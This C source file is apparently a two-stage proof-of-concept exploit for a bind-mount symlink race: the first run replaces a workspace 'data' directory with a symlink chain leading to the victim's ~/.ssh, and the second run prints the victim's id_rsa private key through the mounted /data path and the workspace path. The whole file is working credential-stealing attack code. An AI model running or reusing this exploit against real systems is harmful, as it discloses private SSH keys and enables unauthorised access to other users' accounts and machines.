/* bind-symlink-swap: run 1 swaps the bind's parent directory for a
 * symlink whose raw/ is the victim's ~/.ssh; run 2 prints what got
 * mounted at /data, and the same path through the workspace. */
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "targets.h"

static void cat(const char *path)
{
	char buf[4096];
	FILE *f = fopen(path, "r");
	size_t n;

	if (!f) {
		perror(path);
		return;
	}
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		fwrite(buf, 1, n, stdout);
	fclose(f);
}

int main(int argc, char **argv)
{
	char a[1200], b[1200];

	targets_load(argc, argv);
	if (!strcmp(target("T_STAGE"), "1")) {
		snprintf(a, sizeof(a), "%s/.swap", target("T_WORK"));
		mkdir(a, 0755);
		snprintf(a, sizeof(a), "%s/.ssh", target("T_HOME"));
		snprintf(b, sizeof(b), "%s/.swap/raw", target("T_WORK"));
		if (symlink(a, b) < 0)
			perror("symlink");
		snprintf(a, sizeof(a), "%s/data", target("T_WORK"));
		snprintf(b, sizeof(b), "%s/data.orig", target("T_WORK"));
		if (rename(a, b) < 0 || symlink(".swap", a) < 0)
			perror("swap");
		else
			puts("swapped");
		return 0;
	}
	cat("/data/id_rsa");
	snprintf(a, sizeof(a), "%s/data/raw/id_rsa", target("T_WORK"));
	cat(a);
	return 0;
}
